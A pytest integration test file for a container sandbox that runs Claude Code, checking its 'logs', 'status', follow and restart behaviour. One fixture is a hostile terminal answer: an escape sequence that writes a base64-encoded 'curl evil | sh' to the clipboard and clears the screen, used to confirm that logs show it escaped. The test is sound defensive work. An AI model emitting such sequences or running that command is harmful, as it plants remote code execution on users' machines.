"""`logs` shows what the agent did, from Claude Code's own transcripts: a real Claude
Code run against the scripted model server makes tool calls, and `logs` shows the
prompt, each call with its input, the results and the answer, for the running and
then the stopped session. `status` asks the model endpoint through the agent's path."""

from __future__ import annotations

import json
import secrets
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from tests.conftest import Cage, logs_bytes, owned
from tests.integration.model import ModelServer, agent_script
from tests.integration.test_agent import project  # noqa: F401 (a fixture)

pytestmark = [pytest.mark.engine, pytest.mark.podman]

HOSTILE = "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"  # clipboard write, clear screen


def logs(cage: Cage, name: str, *flags: str) -> str:
    out = logs_bytes(cage, name, *flags)
    assert b"\x1b" not in out and b"\x07" not in out  # nothing raw
    return out.decode()


@pytest.mark.slow
def test_logs_show_the_agents_tool_calls_running_and_stopped(
    cage: Cage,
    model_server: ModelServer,
    project: Path,  # noqa: F811
) -> None:
    key = f"sk-ant-test-{secrets.token_hex(16)}"
    name = cage.name("logs")
    env = {"ANTHROPIC_API_KEY": key, **model_server.session_env()}
    started = cage("start", "--name", name, "--detach", "--mount", str(project), env=env)
    assert started.code == 0, started.output

    # The model endpoint answers through the session's own path (bridge, proxy, the
    # credential added on the way), and status says where that path leads.
    shown = cage("status", name, "--json").json()["session"]
    assert shown["model"]["ok"], shown["model"]
    assert shown["model"]["url"] == "https://api.anthropic.com"
    assert shown["model"]["upstream"] is None
    text = cage("status", name).stdout
    assert "model        https://api.anthropic.com: answers" in text

    model_server.reset()
    model_server.set_script(agent_script(f"/workspace/{project.name}", "x.invalid"), final=HOSTILE)
    run = cage(
        "exec", name, "--", "claude", "-p", "Update the notes.",
        "--dangerously-skip-permissions", timeout=240,
    )  # fmt: skip
    assert run.code == 0, run.output

    out = logs(cage, name)
    lines = out.splitlines()
    assert any(line.endswith("you     Update the notes.") for line in lines), out
    write = f"tool    Write(file_path=/workspace/{project.name}/notes.txt, content=hello from"
    assert any(write in line for line in lines), out
    assert any("result  File created successfully" in line for line in lines), out
    assert any("tool    Edit(" in x and "old_string=hello" in x for x in lines), out
    assert any("tool    Bash(command=wc -c < notes.txt" in line for line in lines), out
    assert any("claude  Writing the notes." in line for line in lines), out
    # The answer's escape sequences arrive escaped, on its own single line.
    assert any("claude  Done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J" in x for x in lines)
    assert all(len(line) <= 100 for line in lines)  # one line each, shortened
    assert logs(cage, name, "--") == out  # Click's command (`logs NAME` runs without it)

    events = [json.loads(line) for line in logs(cage, name, "--json").splitlines()]
    assert {"user", "assistant"} <= {e["type"] for e in events}
    uses = [b for e in events if e["type"] == "assistant" for b in e["message"]["content"]]
    assert [b["name"] for b in uses if b["type"] == "tool_use"][:4] == [
        "Write", "Read", "Edit", "Bash",
    ]  # fmt: skip
    assert len(logs(cage, name, "--json", "--tail", "3").splitlines()) == 3
    # --tail counts what is shown: the last answer, under its date line, even when
    # events that show nothing (as Claude Code writes after a turn) come after it
    hidden = '{"type":"system","subtype":"hook","timestamp":"%s"}'
    append = (
        "f=$(ls -t ~/.claude/projects/*/*.jsonl | head -1); "
        f"for i in 1 2 3; do printf '{hidden}\\n' $(date -u +%FT%TZ) >> $f; done"
    )
    assert cage("exec", name, "--", "sh", "-c", append).code == 0
    last = [x for x in logs(cage, name, "--tail", "1").splitlines() if not x.startswith("--- ")]
    assert last == [[x for x in lines if not x.startswith("--- ")][-1]], out

    assert cage("stop", name).code == 0
    assert logs(cage, name) == out  # a stopped session's transcript reads the same
    assert logs(cage, name, "--") == out
    # (Podman reads a stopped session's volumes through a reader container: gone now)
    assert not [c for c in owned(cage.owner())[0] if "-reader-" in c]


def test_status_says_when_the_model_does_not_answer(cage: Cage, model_server: ModelServer) -> None:
    name = cage.name("nomodel")
    env = {"CAGE_ALLOWED_HOSTS": "claude.ai"}  # the proxy refuses api.anthropic.com
    assert cage("start", "--name", name, "--detach", env=env).code == 0
    model = cage("status", name, "--json").json()["session"]["model"]
    assert not model["ok"] and model["http_status"] is None, model
    assert "cannot reach its model" in cage("status", name).stderr

    offline = cage.name("offline")
    assert cage("start", "--name", offline, "--detach", "--network", "none").code == 0
    model = cage("status", offline, "--json").json()["session"]["model"]
    assert not model["ok"] and "no network" in model["detail"], model


def test_a_restart_keeps_the_settings_the_session_started_with(cage: Cage) -> None:
    name = cage.name("keep")
    first = cage(
        "start", "--name", name, "--detach", "--network", "none", env={"CAGE_TMP_SIZE": "256m"}
    )
    assert first.code == 0, first.output
    assert cage("status", name, "--json").json()["session"]["settings"]["tmp_size"] == "256m"
    assert cage("stop", name).code == 0
    again = cage("start", "--name", name, "--detach")
    assert again.code == 0, again.output
    assert "keeps the settings it was started with: tmp_size=256m" in again.stderr
    assert cage("status", name, "--json").json()["session"]["settings"]["tmp_size"] == "256m"


def test_logs_follow_shows_new_events_as_they_come(cage: Cage) -> None:
    name = cage.name("follow")
    assert cage("start", "--name", name, "--detach", "--network", "none").code == 0
    path = "/home/claude/.claude/projects/-workspace/follow.jsonl"
    event = json.dumps(
        {"type": "user", "timestamp": "2026-11-29T10:00:00Z", "message": {"content": "late one"}}
    )
    follower = subprocess.Popen(
        [sys.executable, "-m", "claude_cage", "logs", name, "-f"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=cage.env,
    )
    stopper = threading.Timer(60, follower.kill)  # a follower that shows nothing fails
    stopper.start()
    try:
        write = f"mkdir -p $(dirname {path}) && printf '%s\\n' '{event}' >> {path}"
        assert cage("exec", name, "--", "sh", "-c", write).code == 0
        line = follower.stdout.readline().decode()  # type: ignore[union-attr]
        while line.startswith("---"):  # the date line
            line = follower.stdout.readline().decode()  # type: ignore[union-attr]
        assert "you     late one" in line, line
    finally:
        stopper.cancel()
        follower.kill()
        follower.wait()
